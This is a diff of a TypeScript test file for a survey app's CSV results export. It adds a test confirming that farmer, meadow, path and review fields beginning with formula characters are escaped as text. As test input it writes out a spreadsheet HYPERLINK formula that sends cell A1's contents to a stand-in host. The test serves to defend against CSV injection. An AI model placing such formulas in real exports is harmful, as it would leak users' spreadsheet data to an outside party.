@@ -10,6 +10,7 @@ import { formatDateTime } from '../../../src/common/format';
 import { config, renderWithStore, row, season } from './fixtures';
 import { openOfflineDb, refreshRows } from '../../../src/client/lib/db';
 import { uniqueDbName } from '../data-layer/helpers';
+import { FORMULA_STARTS, looksLikeFormula, readCsv } from '../../common/helpers/read-csv';
 
 afterEach(cleanup);
 
@@ -73,6 +74,19 @@ describe('results model', () => {
     expect(lines[1]).toContain('"Ana ""Ančka"" Kovač";Travnik pod gozdom;Pot 1;2026;');
     expect(lines[1]).toContain(`;72;${sl.scheme.scoreClass.good};${FORM_KINDS.travnik.scoring.version};Da;`);
     expect(lines[1]!.endsWith(';"a; b"')).toBe(true);
+  });
+
+  it.each(FORMULA_STARTS)('CSV: a farmer, meadow or path name, a review reason or a history starting with %j is text; the score stays a number', (start) => {
+    const { rows } = results();
+    const text = (what: string) => `${start}HYPERLINK("http://example.invalid/?x="&A1;"${what}")`;
+    const named = rows.map((r) => ({ ...r, areaName: text('travnik'), pathName: text('pot'), reviewReason: text('razlog'), score: -4 }));
+    const lines = readCsv(resultsCsv(named, () => text('kmet'), new Map([[rows[0]!.formId, text('zgodovina')]])));
+    expect(lines.flat().filter(looksLikeFormula)).toEqual([]);
+    const first = lines[1]!;
+    for (const what of ['kmet', 'travnik', 'pot', 'razlog', 'zgodovina']) expect(first).toContain(`'${text(what)}`);
+    expect(first[6]).toBe('-4');
+    // The updated time is written as it is kept, an ISO date.
+    expect(first[10]).toMatch(/^\d{4}-\d{2}-\d{2}T/);
   });
 
   it('CSV and GeoJSON carry the review: the state as a word, who decided, when and why', () => {
